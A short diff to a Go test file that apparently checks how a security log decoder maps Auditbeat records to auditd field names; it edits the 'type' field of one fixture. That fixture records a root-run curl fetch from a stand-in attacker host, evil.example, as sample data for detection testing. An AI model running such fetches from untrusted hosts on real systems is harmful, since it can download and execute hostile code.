@@ -95,7 +95,7 @@ func TestDecodeLineShapes(t *testing.T) {
 		// Auditbeat -> auditd names.
 		{6, event.Logsource{Product: "linux", Service: "auditd"}, "lin1",
 			map[string]string{
-				"type": "SYSCALL", "SYSCALL": "execve", "a0": "curl", "a1": "-s", "a2": "http://evil.example/x",
+				"type": "SYSCALL, EXECVE", "SYSCALL": "execve", "a0": "curl", "a1": "-s", "a2": "http://evil.example/x",
 				"exe": "/usr/bin/curl", "comm": "curl", "name": "/usr/bin/curl, /lib64/ld-linux-x86-64.so.2",
 				"nametype": "NORMAL, NORMAL", "key": "network_connect_4", "auid": "1000", "uid": "0", "tty": "pts0",
 			}},
